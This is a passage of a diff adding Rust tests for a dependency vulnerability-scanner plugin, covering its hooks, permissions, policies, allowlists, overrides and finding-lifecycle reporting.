+    fn published_artifacts_reach_the_next_post_hook_and_event_notifications_are_not_answered() {
+        let root = fixture_workspace("events", &[("requirements.txt", b"django==2.2.0\n")]);
+        let workspace = json!({"root": root.display().to_string()});
+        let target = json!({"name": "app", "sources": ["requirements.txt"]});
+        let notify = |event: &str| {
+            let data = json!({"artifact": "dist/app.whl"});
+            let params = json!({"event": event, "target": "app", "data": data, "workspace": workspace});
+            json!({"jsonrpc": "2.0", "method": "event.notify", "params": params})
+        };
+        let hook = |id: u64, method: &str| {
+            json!({"jsonrpc": "2.0", "id": id, "method": method, "params": {"target": target, "workspace": workspace}})
+        };
+        let requests = [
+            json!({"jsonrpc": "2.0", "id": 1, "method": "plugin.info"}),
+            hook(2, "build.pre_hook"),
+            notify("cache.hit"),
+            notify("artifact.published"),
+            hook(3, "build.post_hook"),
+            hook(4, "build.post_hook"),
+        ];
+        let input: String = requests.iter().map(|request| format!("{}\n", request)).collect();
+
+        let mut out = Vec::new();
+        assert_eq!(plugin::run(&[], &mut input.as_bytes(), &mut out, &mut io::sink()), 0);
+        let responses: Vec<Value> =
+            String::from_utf8(out).unwrap().lines().map(|line| serde_json::from_str(line).unwrap()).collect();
+        let ids: Vec<&Value> = responses.iter().map(|r| &r["id"]).collect();
+        assert_eq!(ids, [1, 2, 3, 4]);
+        assert_eq!(responses[0]["result"]["subscriptions"], json!(["artifact.published"]));
+
+        let published = &responses[2]["result"]["published"];
+        assert_eq!(published.as_array().unwrap().len(), 1, "{}", responses[2]);
+        assert_eq!((&published[0]["target"], &published[0]["artifacts"]), (&json!("app"), &json!(["dist/app.whl"])));
+        let report = published[0]["reports"][0].as_str().unwrap();
+        assert!(report.contains("history/reports/app/"), "{}", report);
+        let logs = responses[2]["result"]["logs"].as_array().unwrap();
+        assert!(logs.contains(&json!(format!("    app: dist/app.whl ({})", report))), "{:?}", logs);
+        // Flushed once
+        assert!(responses[3]["result"].get("published").is_none());
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn strict_permissions_refuse_what_plugin_info_does_not_declare() {
+        let root = fixture_workspace(
+            "permissions",
+            &[("package.json", b"{\n  \"dependencies\": {\n    \"lodash\": \"4.17.15\"\n  }\n}\n")],
+        );
+        // A dotfile linked in from the home directory
+        let elsewhere = fixture_workspace("permissions-home", &[("npmrc", b"registry=https://npm.example/\n")]);
+        std::os::unix::fs::symlink(elsewhere.join("npmrc"), root.join(".npmrc")).unwrap();
+        let request = |method: &str, config: Value| {
+            let params = json!({
+                "target": {"name": "app", "sources": ["package.json"]},
+                "workspace": {"root": root.display().to_string(), "config": config}
+            });
+            let request = json!({"id": 1, "method": method, "params": params});
+            handle_request(&mut handshake::Session::default(), request, &mut io::sink(), &mut Diagnostics::default())
+        };
+
+        let config = json!({"strict_permissions": true, "metrics_file": "out/security.prom"});
+        let permissions = request("plugin.info", config.clone())["result"]["permissions"].clone();
+        assert_eq!(permissions["enforced"], true);
+        assert_eq!(permissions["read"][0], "**");
+        assert_eq!(
+            permissions["write"],
+            json!([
+                ".builder-cache/security/**",
+                ".builder-cache/security-report*",
+                ".builder-cache/security-bundle*",
+                "out/security.prom"
+            ])
+        );
+        assert_eq!(permissions["network"], json!([]));
+
+        let lenient = request("build.pre_hook", json!({"metrics_file": "out/security.prom"}));
+        assert_eq!(lenient["result"]["success"], true, "{}", lenient);
+        fs::remove_file(root.join("out/security.prom")).unwrap();
+        let error = request("build.pre_hook", config)["error"].clone();
+        assert_eq!(error["code"], -32008);
+        assert_eq!(error["data"]["kind"], "permission_denied");
+        let detail = error["data"]["detail"].as_str().unwrap();
+        let npmrc = elsewhere.join("npmrc").canonicalize().unwrap();
+        assert_eq!(
+            detail,
+            format!("undeclared access refused (strict_permissions): read of {}", npmrc.display())
+        );
+        // Declared files were written all the same
+        assert!(root.join("out/security.prom").is_file());
+        fs::remove_dir_all(&root).unwrap();
+        fs::remove_dir_all(&elsewhere).unwrap();
+    }
+
+    #[test]
+    fn hook_failures_carry_typed_errors() {
+        let root = fixture_workspace("errors", &[("requirements.txt", b"django==2.2.0\n")]);
+        let pre_hook = |root: &Path, config: Value| {
+            let params = json!({
+                "target": {"name": "app", "sources": ["requirements.txt"]},
+                "workspace": {"root": root.display().to_string(), "config": config}
+            });
+            handle_pre_hook(&json!(1), Some(&params), None)
+        };
+
+        let missing = pre_hook(&root.join("missing"), json!({}));
+        assert_eq!(missing["error"]["code"], -32004);
+        assert_eq!(missing["error"]["data"]["kind"], "workspace_unreadable");
+        let invalid = pre_hook(&root, json!({"scan_timeout_secs": "soon"}));
+        assert_eq!(invalid["error"]["code"], -32001);
+        assert_eq!(invalid["error"]["data"]["retryable"], false);
+
+        let result = pre_hook(&root, json!({"fail_on_critical": true}))["result"].clone();
+        assert_eq!(result["success"], false);
+        assert_eq!(
+            result["errors"],
+            json!([{
+                "code": -32003,
+                "kind": "policy_violated",
+                "detail": "security policy violated: 1 critical vulnerabilities (fail_on_critical)",
+                "retryable": false
+            }])
+        );
+        let request = json!({"id": 2, "method": "plugin.nope"});
+        let mut session = handshake::Session::default();
+        let response = handle_request(&mut session, request, &mut io::sink(), &mut Diagnostics::default());
+        assert_eq!(response["error"]["code"], -32601);
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn findings_are_attributed_to_the_nearest_project() {
+        let root = fixture_workspace(
+            "projects",
+            &[
+                ("requirements.txt", b"requests==2.31.0\n"),
+                ("services/api/requirements.txt", b"django==2.2.0\n"),
+                ("services/api/ui/package.json", b"{\n  \"dependencies\": {\n    \"lodash\": \"^4.17.15\"\n  }\n}\n"),
+                ("services/api/ui/yarn.lock", b"lodash@^4.17.15:\n  version \"4.17.15\"\n"),
+            ],
+        );
+        let params = json!({
+            "target": {
+                "name": "app",
+                "sources": [
+                    "requirements.txt",
+                    "services/api/requirements.txt",
+                    "services/api/ui/package.json",
+                    "services/api/ui/yarn.lock"
+                ]
+            },
+            "workspace": {"root": root.display().to_string(), "config": {"report_group_by": "project"}}
+        });
+        let result = handle_pre_hook(&json!(1), Some(&params), None)["result"].clone();
+
+        let totals: Vec<(&str, u64)> = result["projects"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|p| (p["project"].as_str().unwrap(), p["total"].as_u64().unwrap()))
+            .collect();
+        assert_eq!(totals, vec![(".", 0), ("services/api", 1), ("services/api/ui", 2)]);
+        assert_eq!(result["projects"][1]["counts"]["CRITICAL"], 1);
+
+        let report: Value =
+            serde_json::from_str(&fs::read_to_string(root.join(".builder-cache/security-report.json")).unwrap())
+                .unwrap();
+        assert_eq!(report["projects"], result["projects"]);
+        let projects: Vec<&str> = report["vulnerabilities"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|v| v["project"].as_str().unwrap())
+            .collect();
+        assert_eq!(projects, vec!["services/api", "services/api/ui", "services/api/ui"]);
+
+        let mut params = params;
+        params["workspace"]["config"]["report_group_by"] = json!("package");
+        let error = handle_pre_hook(&json!(1), Some(&params), None)["error"].clone();
+        let detail = error["data"]["detail"].as_str().unwrap();
+        assert!(detail.contains("report_group_by: expected none or project, got 'package'"), "{}", detail);
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn named_policies_decide_by_the_first_matching_rule() {
+        let root = fixture_workspace(
+            "policies",
+            &[
+                ("requirements.txt", b"requests==2.25.0\n"),
+                ("package.json", b"{\n  \"dependencies\": {\n    \"express\": \"4.16.0\"\n  }\n}\n"),
+            ],
+        );
+        let policies = json!({
+            "release": {
+                "rules": [
+                    {"name": "block-kev", "match": {"kev": true}, "action": "fail"},
+                    {"name": "block-high", "match": {"min_severity": "HIGH"}, "action": "fail"}
+                ],
+                "default": "warn"
+            },
+            "dev": {
+                "rules": [{"name": "new-npm", "match": {"ecosystems": ["npm"], "new": true}, "action": "warn"}],
+                "default": "ignore"
+            }
+        });
+        let run = |policy: &str| {
+            let params = json!({
+                "target": {"name": "app", "sources": ["requirements.txt", "package.json"]},
+                "workspace": {
+                    "root": root.display().to_string(),
+                    "config": {"policy": policy, "policies": policies, "kev_catalog": "kev.json"}
+                }
+            });
+            handle_pre_hook(&json!(1), Some(&params), None)["result"].clone()
+        };
+
+        let dev = run("dev");
+        assert_eq!(dev["success"], true);
+        let trace = dev["policy"]["trace"].as_array().unwrap();
+        let decided: Vec<(&str, &str)> =
+            trace.iter().map(|d| (d["package"].as_str().unwrap(), d["rule"].as_str().unwrap())).collect();
+        assert_eq!(decided, vec![("express", "new-npm"), ("requests", "default")]);
+
+        // Known exploitation fails a release build whatever the severity
+        let requests_id = trace[1]["id"].as_str().unwrap();
+        let catalog = json!({"vulnerabilities": [{"cveID": requests_id}]});
+        fs::write(root.join("kev.json"), catalog.to_string()).unwrap();
+        let release = run("release");
+        assert_eq!(release["success"], false);
+        assert_eq!(release["policy"]["failed_by"], json!({"block-kev": 1}));
+        assert_eq!(release["policy"]["warned_by"], json!({"default": 1}));
+        assert!(release["logs"]
+            .as_array()
+            .unwrap()
+            .contains(&json!("    - 1 findings matched rule 'block-kev' of policy 'release'")));
+
+        let undefined = json!({
+            "target": {"name": "app", "sources": []},
+            "workspace": {"root": root.display().to_string(), "config": {"policy": "staging"}}
+        });
+        assert_eq!(handle_pre_hook(&json!(1), Some(&undefined), None)["error"]["data"]["kind"], "config_invalid");
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn report_compressions_the_build_cannot_write_are_invalid_config() {
+        let root = fixture_workspace("report-compression", &[("requirements.txt", b"django==2.2.0\n")]);
+        let run = |compression: &str| {
+            let params = json!({
+                "target": {"name": "app", "sources": ["requirements.txt"]},
+                "workspace": {"root": root.display().to_string(), "config": {"report_compression": compression}}
+            });
+            handle_pre_hook(&json!(1), Some(&params), None)
+        };
+
+        assert!(run("gzip")["result"].is_object());
+        assert_eq!(run("brotli")["error"]["data"]["kind"], "config_invalid");
+        let zstd = run("zstd");
+        if cfg!(feature = "zstd") {
+            assert!(zstd["result"].is_object());
+        } else {
+            let detail = zstd["error"]["data"]["detail"].as_str().unwrap();
+            assert!(detail.contains("needs a build with the `zstd` feature"), "{}", detail);
+        }
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn allowlist_reports_unapproved_dependencies_apart_from_vulnerabilities() {
+        let root = fixture_workspace(
+            "allowlist",
+            &[
+                ("requirements.txt", b"django==2.2.0\nflask==3.0.0\n"),
+                ("security/base.toml", b"packages = [\"pkg:pypi/Django@>=2.2,<3\"]\n"),
+                ("security/allowlist.toml", b"include = [\"base.toml\"]\nseverity = \"MEDIUM\"\n"),
+            ],
+        );
+        let policies = json!({
+            "locked-down": {
+                "rules": [{"name": "unapproved", "match": {"categories": ["unapproved_dependency"]}, "action": "fail"}],
+                "default": "warn"
+            }
+        });
+        let run = |allowlist: &str| {
+            let params = json!({
+                "target": {"name": "app", "sources": ["requirements.txt"]},
+                "workspace": {
+                    "root": root.display().to_string(),
+                    "config": {"allowlist": allowlist, "policy": "locked-down", "policies": policies}
+                }
+            });
+            handle_pre_hook(&json!(1), Some(&params), None)["result"].clone()
+        };
+
+        let result = run("security/allowlist.toml");
+        assert_eq!(result["success"], false);
+        assert_eq!(result["policy"]["failed_by"], json!({"unapproved": 1}));
+        let report: Value =
+            serde_json::from_slice(&fs::read(root.join(".builder-cache/security-report.json")).unwrap()).unwrap();
+        let unapproved = report["unapproved_dependencies"].as_array().unwrap();
+        assert_eq!(unapproved.len(), 1);
+        assert_eq!((&unapproved[0]["package"], &unapproved[0]["severity"]), (&json!("flask"), &json!("MEDIUM")));
+        assert_eq!(unapproved[0]["id"], allowlist::UNAPPROVED);
+        // Approved, django's advisories are still reported as vulnerabilities
+        let vulnerabilities = report["vulnerabilities"].as_array().unwrap();
+        assert!(!vulnerabilities.is_empty());
+        assert!(vulnerabilities.iter().all(|v| v["package"] == "django"));
+
+        // A list that can't be read approves nothing, so the scan fails
+        let missing = run("security/missing.toml");
+        assert_eq!(missing["success"], false);
+        let errors = missing["errors"].as_array().unwrap();
+        assert!(errors.iter().any(|e| e["detail"].as_str().unwrap().contains("allowlist unusable")));
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn a_dry_run_inventories_what_the_scan_would_read_without_scanning() {
+        let django = br#"{"id": "PYSEC-1", "affected": [{"package": {"ecosystem": "PyPI", "name": "django"},
+            "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "3.0"}]}]}]}"#;
+        let lodash = br#"{"id": "GHSA-1", "affected": [{"package": {"ecosystem": "npm", "name": "lodash"},
+            "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "4.17.21"}]}]}]}"#;
+        let root = fixture_workspace(
+            "dry-run",
+            &[
+                ("requirements.txt", b"django==2.2.0\nrequests==2.25.0\n"),
+                ("api/requirements.txt", b"django==2.2.0\n"),
+                ("vendor/requirements.txt", b"flask==1.0\n"),
+                ("web/package.json", b"{\"dependencies\": {\"lodash\": \"4.17.15\"}}"),
+                ("osv/PyPI/PYSEC-1.json", django),
+                ("osv/npm/GHSA-1.json", lodash),
+            ],
+        );
+        let db_path = root.join("osv").display().to_string();
+        let sources = ["requirements.txt", "api/requirements.txt", "vendor/requirements.txt", "web/package.json"];
+        let run = |dry_run: bool| {
+            let params = json!({
+                "target": {"name": "app", "sources": sources},
+                "workspace": {
+                    "root": root.display().to_string(),
+                    "config": {
+                        "dry_run": dry_run,
+                        "db_path": db_path,
+                        "ecosystems": ["PyPI"],
+                        "exclude": ["vendor/**"],
+                        "fail_on_critical": true
+                    }
+                }
+            });
+            handle_pre_hook(&json!(1), Some(&params), None)["result"].clone()
+        };
+
+        let planned = run(true);
+        assert_eq!(planned["success"], true);
+        let plan = &planned["plan"];
+        let files: Vec<&str> = plan["files"].as_array().unwrap().iter().map(|f| f["path"].as_str().unwrap()).collect();
+        assert_eq!(files, ["requirements.txt", "api/requirements.txt"]);
+        assert_eq!((plan["dependencies"].as_u64(), plan["packages"].as_u64()), (Some(3), Some(2)));
+        assert_eq!(plan["ecosystems"], json!([{"ecosystem": "PyPI", "files": 2, "dependencies": 3, "packages": 2}]));
+        // Only the advisories of the ecosystems considered would be read
+        let database = json!({"setting": "db_path", "path": db_path, "bytes": django.len()});
+        assert_eq!(plan["databases"], json!([database]));
+        assert_eq!(plan["download_bytes"], django.len());
+        assert_eq!(plan["policies"], json!(["fail_on_critical"]));
+        // Nothing was refreshed, matched or written
+        assert!(!root.join(".builder-cache").exists());
+
+        let scanned = run(false);
+        assert!(scanned.get("plan").is_none());
+        let report: Value =
+            serde_json::from_slice(&fs::read(root.join(".builder-cache/security-report.json")).unwrap()).unwrap();
+        assert_eq!(report["vulnerabilities"][0]["id"], "PYSEC-1");
+        let scanned_files: Vec<&str> =
+            report["files"].as_array().unwrap().iter().map(|f| f["path"].as_str().unwrap()).collect();
+        assert_eq!(scanned_files, files);
+        assert_eq!(scanned["not_scanned"], planned["not_scanned"]);
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn target_language_narrows_the_ecosystems_scanned() {
+        let root = fixture_workspace(
+            "language-hint",
+            &[
+                ("requirements.txt", b"django==2.2.0\n"),
+                ("web/package.json", b"{\n  \"dependencies\": {\n    \"lodash\": \"4.17.15\"\n  }\n}\n"),
+            ],
+        );
+        let scan = |config: Value| {
+            let params = json!({
+                "target": {"name": "app", "language": "python", "sources": ["requirements.txt", "web/package.json"]},
+                "workspace": {"root": root.display().to_string(), "config": config}
+            });
+            handle_pre_hook(&json!(1), Some(&params), None)["result"].clone()
+        };
+
+        let result = scan(json!({}));
+        let logs = result["logs"].as_array().unwrap();
+        assert!(logs.iter().any(|l| l == "  Ecosystems considered: PyPI (language 'python' hint)"));
+        assert!(logs.iter().any(|l| l == "  ⚠ Found 1 vulnerabilities [demo data]"), "{:?}", logs);
+        assert_eq!(result["not_scanned"][0]["path"], "web/package.json");
+        assert_eq!(result["not_scanned"][0]["detail"], "npm is not among the ecosystems considered");
+
+        let result = scan(json!({"ecosystems": ["all"]}));
+        let logs = result["logs"].as_array().unwrap();
+        assert!(logs.iter().any(|l| l == "  Ecosystems considered: all (ecosystems setting)"));
+        assert!(logs.iter().any(|l| l == "  ⚠ Found 2 vulnerabilities [demo data]"), "{:?}", logs);
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn workspace_pre_hook_scans_shared_files_once_and_slices_per_target() {
+        let root = fixture_workspace(
+            "workspace-hook",
+            &[
+                ("requirements.txt", b"django==2.2.0\n"),
+                ("web/package.json", b"{\n  \"dependencies\": {\n    \"lodash\": \"4.17.15\"\n  }\n}\n"),
+            ],
+        );
+        let params = json!({
+            "targets": [
+                {"name": "api", "language": "python", "sources": ["requirements.txt", "api/main.py"]},
+                {"name": "worker", "sources": ["./requirements.txt", "web/package.json"]},
+                {"name": "docs", "sources": ["docs/index.md"]}
+            ],
+            "workspace": {"root": root.display().to_string(), "config": {}}
+        });
+        let result = handle_workspace_pre_hook(&json!(1), Some(&params), None)["result"].clone();
+        let logs = result["logs"].as_array().unwrap();
+        assert!(logs.iter().any(|l| l == "  3 targets, 4 distinct sources"), "{:?}", logs);
+        assert_eq!(result["summary"]["total"], 2);
+
+        let targets = &result["targets"];
+        let ids = |name: &str| -> Vec<Value> {
+            targets[name]["vulnerabilities"].as_array().unwrap().iter().map(|v| v["package"].clone()).collect()
+        };
+        assert_eq!(ids("api"), vec![json!("django")]);
+        assert_eq!(ids("worker"), vec![json!("django"), json!("lodash")]);
+        assert_eq!(ids("docs"), Vec::<Value>::new());
+        assert_eq!(targets["docs"]["success"], true);
+        assert_eq!(targets["docs"]["files"], json!([]));
+        assert_eq!(targets["api"]["summary"]["target"], "api");
+        assert_eq!(targets["worker"]["files"].as_array().unwrap().len(), 2);
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn findings_keep_their_fingerprint_across_version_bumps() {
+        let finding = |version: &str, file: &str| -> Vulnerability {
+            serde_json::from_value(json!({
+                "id": "GHSA-2732", "severity": "CRITICAL", "package": "django", "version": version,
+                "description": "SQL injection", "fixed_in": "2.2.24", "file": file
+            }))
+            .unwrap()
+        };
+        // A report from before fingerprints were recorded
+        let previous = serde_json::to_vec(&[finding("2.2.0", "requirements.txt")]).unwrap();
+        let root = fixture_workspace("fingerprints", &[(".builder-cache/security-report.json", &previous)]);
+
+        let mut scanner = SecurityScanner::new(root.display().to_string(), ScanConfig::default());
+        scanner.vulnerabilities = vec![finding("2.2.1", "requirements.txt"), finding("2.2.1", "svc/requirements.txt")];
+        scanner.generate_report();
+        assert_eq!(scanner.new_findings, 1);
+        assert!(!scanner.is_new(&scanner.vulnerabilities[0]));
+        assert!(scanner.is_new(&scanner.vulnerabilities[1]));
+
+        let report: Value = serde_json::from_slice(&fs::read(root.join(".builder-cache/security-report.json")).unwrap())
+            .unwrap();
+        assert_eq!(report["fingerprint_algorithm"], fingerprint::ALGORITHM);
+        let expected = fingerprint::compute("GHSA-2732", "PyPI", "django", Some("requirements.txt"));
+        assert_eq!(report["vulnerabilities"][0]["fingerprint"], expected);
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn severity_overrides_replace_matching_severities_and_flag_stale_entries() {
+        let root = fixture_workspace(
+            "severity-overrides",
+            &[
+                ("requirements.txt", b"django==2.2.0\n"),
+                ("package.json", b"{\n  \"dependencies\": {\n    \"lodash\": \"4.17.15\"\n  }\n}\n"),
+            ],
+        );
+        let config = json!({
+            "fail_on_critical": true,
+            "severity_overrides": {"CVE-2021-27*": "low", "CVE-2021-2732": "medium", "GHSA-gone": "high"}
+        });
+        let params = json!({
+            "target": {"name": "app", "sources": ["requirements.txt", "package.json"]},
+            "workspace": {"root": root.display().to_string(), "config": config}
+        });
+        let result = handle_pre_hook(&json!(1), Some(&params), None)["result"].clone();
+        assert_eq!(result["success"], true);
+
+        let report = fs::read(root.join(".builder-cache/security-report.json")).unwrap();
+        let findings = serde_json::from_slice::<Value>(&report).unwrap()["vulnerabilities"].clone();
+        // Reported by the override's severity, after lodash
+        assert_eq!(findings[1]["package"], "django");
+        assert_eq!(findings[1]["severity"], "MEDIUM");
+        assert_eq!(findings[1]["original_severity"], "CRITICAL");
+        assert_eq!(findings[1]["overridden_by"], "CVE-2021-2732");
+        assert!(findings[0].get("overridden_by").is_none());
+
+        let logs = result["logs"].as_array().unwrap();
+        let stale: Vec<&Value> = logs.iter().filter(|l| l.as_str().unwrap().contains("matched no finding")).collect();
+        assert_eq!(stale.len(), 2, "{:?}", logs);
+        assert!(stale[1].as_str().unwrap().contains("'GHSA-gone'"));
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn ecosystem_overrides_replace_file_name_detection() {
+        let root = fixture_workspace(
+            "ecosystem-overrides",
+            &[
+                ("deps/prod.reqs", b"django==2.2.0\n"),
+                ("extension/package.json", b"{\n  \"dependencies\": {\n    \"lodash\": \"4.17.15\"\n  }\n}\n"),
+                ("requirements.txt", b"requests==2.25.0\n"),
+            ],
+        );
+        let config = json!({
+            "verbosity": "debug",
+            "ecosystem_overrides": {"deps/*.reqs": "pypi", "extension/package.json": "ignore", "gone/go.mod": "Go"}
+        });
+        let params = json!({
+            "target": {"name": "app", "sources": ["deps/prod.reqs", "extension/package.json", "requirements.txt"]},
+            "workspace": {"root": root.display().to_string(), "config": config}
+        });
+        let result = handle_pre_hook(&json!(1), Some(&params), None)["result"].clone();
+        assert_eq!(result["not_scanned"][0]["path"], "extension/package.json");
+        assert_eq!(result["not_scanned"][0]["detail"], "ignored by ecosystem_overrides 'extension/package.json'");
+
+        let report = fs::read(root.join(".builder-cache/security-report.json")).unwrap();
+        let report = serde_json::from_slice::<Value>(&report).unwrap();
+        let findings = report["vulnerabilities"].as_array().unwrap();
+        let packages: Vec<&Value> = findings.iter().map(|v| &v["package"]).collect();
+        assert_eq!(packages, ["django", "requests"]);
+        let files = &report["files"];
+        assert_eq!(files[0]["path"], "deps/prod.reqs");
+        assert_eq!(files[0]["detected_by"], "override");
+        assert_eq!(files[0]["override"], "deps/*.reqs");
+        assert_eq!(files[1]["detected_by"], "filename");
+        assert!(files[1].get("override").is_none());
+
+        let logs: Vec<&str> = result["logs"].as_array().unwrap().iter().map(|l| l.as_str().unwrap()).collect();
+        assert!(logs.contains(&"  [debug] deps/prod.reqs: PyPI by ecosystem_overrides 'deps/*.reqs'"), "{:?}", logs);
+        assert!(logs.contains(&"  [debug] requirements.txt: PyPI by file name"));
+        assert!(logs.contains(&"  ⚠ ecosystem_overrides: 'gone/go.mod' does not exist; remove it if it is stale"));
+
+        let params = json!({"workspace": {"root": root.display().to_string(), "config": {
+            "ecosystem_overrides": {"tools/requirements.txt": "apt"}
+        }}, "target": {"name": "app", "sources": []}});
+        let error = handle_pre_hook(&json!(1), Some(&params), None)["error"].clone();
+        assert!(error["data"]["detail"].as_str().unwrap().contains("unknown ecosystem 'apt'"), "{}", error);
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn changed_files_separate_introduced_findings_from_pre_existing_ones() {
+        let root = fixture_workspace("changed-files", &[("requirements.txt", b"requests==2.25.0\n")]);
+        let scan = |sources: &[&str], config: Value, changed: Option<&[&str]>| {
+            let mut params = json!({
+                "target": {"name": "app", "sources": sources},
+                "workspace": {"root": root.display().to_string(), "config": config}
+            });
+            if let Some(changed) = changed {
+                params["changed_files"] = json!(changed);
+            }
+            let result = handle_pre_hook(&json!(1), Some(&params), None)["result"].clone();
+            let report = fs::read(root.join(".builder-cache/security-report.json")).unwrap();
+            (result, serde_json::from_slice::<Value>(&report).unwrap())
+        };
+        let (_, report) = scan(&["requirements.txt"], json!({}), None);
+        assert!(report.get("change").is_none());
+        assert!(report["vulnerabilities"][0].get("introduced").is_none());
+
+        // Moved to another directory, with django added: only django is new
+        fs::create_dir_all(root.join("app")).unwrap();
+        fs::rename(root.join("requirements.txt"), root.join("app/requirements.txt")).unwrap();
+        fs::write(root.join("app/requirements.txt"), "requests==2.25.0\ndjango==2.2.0\n").unwrap();
+        let gate = json!({"fail_on_critical": true, "fail_on_introduced": true});
+        let changed = ["requirements.txt", "app/requirements.txt"];
+        let (result, report) = scan(&["app/requirements.txt"], gate.clone(), Some(&changed));
+        assert_eq!(result["success"], false);
+        let change = &report["change"];
+        assert_eq!(change["changed_files"], json!(["app/requirements.txt", "requirements.txt"]));
+        assert_eq!(change["introduced"].as_array().unwrap().len(), 1);
+        assert_eq!(change["introduced"][0]["package"], "django");
+        assert_eq!(change["pre_existing"][0]["package"], "requests");
+        let logs: Vec<&str> = result["logs"].as_array().unwrap().iter().map(|l| l.as_str().unwrap()).collect();
+        assert!(logs.contains(&"  1 findings introduced, 1 pre-existing"), "{:?}", logs);
+
+        // A change elsewhere introduces nothing, so the critical finding
+        // doesn't fail the build unless every finding counts
+        let (result, report) = scan(&["app/requirements.txt"], gate, Some(&["README.md"]));
+        assert_eq!(result["success"], true);
+        assert!(report["vulnerabilities"].as_array().unwrap().iter().all(|v| v["introduced"] == false));
+        let (result, _) = scan(&["app/requirements.txt"], json!({"fail_on_critical": true}), Some(&["README.md"]));
+        assert_eq!(result["success"], false);
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn the_regression_gate_fails_only_on_findings_added_since_the_previous_scan() {
+        let root = fixture_workspace("regression", &[("requirements.txt", b"django==2.2.0\n")]);
+        let scan = || {
+            // History entries are named by the millisecond of their scan
+            std::thread::sleep(Duration::from_millis(2));
+            let params = json!({
+                "target": {"name": "app", "sources": ["requirements.txt"]},
+                "workspace": {
+                    "root": root.display().to_string(),
+                    "config": {"fail_on_critical": true, "fail_on_regression": true}
+                }
+            });
+            let result = handle_pre_hook(&json!(1), Some(&params), None)["result"].clone();
+            let logs: Vec<String> =
+                result["logs"].as_array().unwrap().iter().map(|l| l.as_str().unwrap().to_string()).collect();
+            (result["success"] == true, logs)
+        };
+        let (passed, logs) = scan();
+        assert!(passed, "{:?}", logs);
+        assert!(logs.contains(&"  No previous scan of app: this one is the baseline for fail_on_regression".to_string()));
+        assert!(scan().0);
+
+        fs::write(root.join("requirements.txt"), "django==2.2.0\nrequests==2.25.0\n").unwrap();
+        let (passed, logs) = scan();
+        assert!(!passed);
+        let regressed: Vec<&String> = logs.iter().filter(|l| l.contains("(fail_on_regression)")).collect();
+        assert!(!regressed.is_empty() && regressed.iter().all(|l| l.ends_with(" in requests 2.25.0")), "{:?}", logs);
+
+        fs::write(root.join("requirements.txt"), "requests==2.25.0\n").unwrap();
+        assert!(scan().0);
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn findings_are_new_recurring_or_regressed_and_fixed_ones_listed() {
+        let root = fixture_workspace("lifecycle", &[("requirements.txt", b"django==2.2.0\nrequests==2.25.0\n")]);
+        let scan = |requirements: &str| {
+            fs::write(root.join("requirements.txt"), requirements).unwrap();
+            let params = json!({
+                "target": {"name": "app", "sources": ["requirements.txt"]},
+                "workspace": {"root": root.display().to_string()}
+            });
+            let result = handle_pre_hook(&json!(1), Some(&params), None)["result"].clone();
+            let report: Value =
+                serde_json::from_slice(&fs::read(root.join(".builder-cache/security-report.json")).unwrap()).unwrap();
+            let states: BTreeSet<(String, String, u64)> = report["vulnerabilities"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .map(|v| {
+                    let lifecycle = &v["lifecycle"];
+                    let package = v["package"].as_str().unwrap().to_string();
+                    (package, lifecycle["state"].as_str().unwrap().to_string(), lifecycle["seen_in"].as_u64().unwrap())
+                })
+                .collect();
+            assert_eq!(result["lifecycle"]["counts"], report["lifecycle"]["counts"]);
+            (result, states)
+        };
+        let state = |package: &str, state: &str, seen_in: u64| (package.to_string(), state.to_string(), seen_in);
+
+        let (result, states) = scan("django==2.2.0\nrequests==2.25.0\n");
+        assert_eq!(states, BTreeSet::from([state("django", "new", 0), state("requests", "new", 0)]));
+        assert_eq!(result["lifecycle"]["previous_scans"], 0);
+
+        let (result, states) = scan("django==2.2.0\n");
+        assert_eq!(states, BTreeSet::from([state("django", "recurring", 1)]));
+        let lifecycle = &result["lifecycle"];
+        assert_eq!(lifecycle["counts"], json!({"new": 0, "recurring": 1, "regressed": 0, "resolved": 1}));
+        assert_eq!(lifecycle["fixed_since_last_scan"][0]["package"], "requests");
+        let logs = result["logs"].as_array().unwrap();
+        assert!(logs.contains(&json!("\n  Fixed since last scan (1):")), "{:?}", logs);
+
+        let (result, states) = scan("django==2.2.0\nrequests==2.25.0\n");
+        assert_eq!(states, BTreeSet::from([state("django", "recurring", 2), state("requests", "regressed", 1)]));
+        let lifecycle = &result["lifecycle"];
+        assert_eq!(lifecycle["counts"], json!({"new": 0, "recurring": 1, "regressed": 1, "resolved": 0}));
+        let line = "  Lifecycle: 0 new, 1 recurring, 1 regressed, 0 resolved (against 2 previous scans)";
+        assert!(result["logs"].as_array().unwrap().contains(&json!(line)), "{}", result["logs"]);
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn name_aliases_match_declared_packages_under_their_advisory_names() {
+        let root = fixture_workspace("name-aliases", &[("requirements.txt", b"Dj-Ango==2.2.0\n")]);
+        let params = |aliases: Value| {
+            json!({
+                "target": {"name": "app", "sources": ["requirements.txt"]},
+                "workspace": {"root": root.display().to_string(), "config": {"name_aliases": aliases}}
+            })
+        };
+        let scan = || {
+            let params = params(json!({"PyPI": {"dj_ango": "django"}}));
+            let result = handle_pre_hook(&json!(1), Some(&params), None)["result"].clone();
+            let report: Value =
+                serde_json::from_slice(&fs::read(root.join(".builder-cache/security-report.json")).unwrap()).unwrap();
+            (result, report)
+        };
+        let (_, report) = scan();
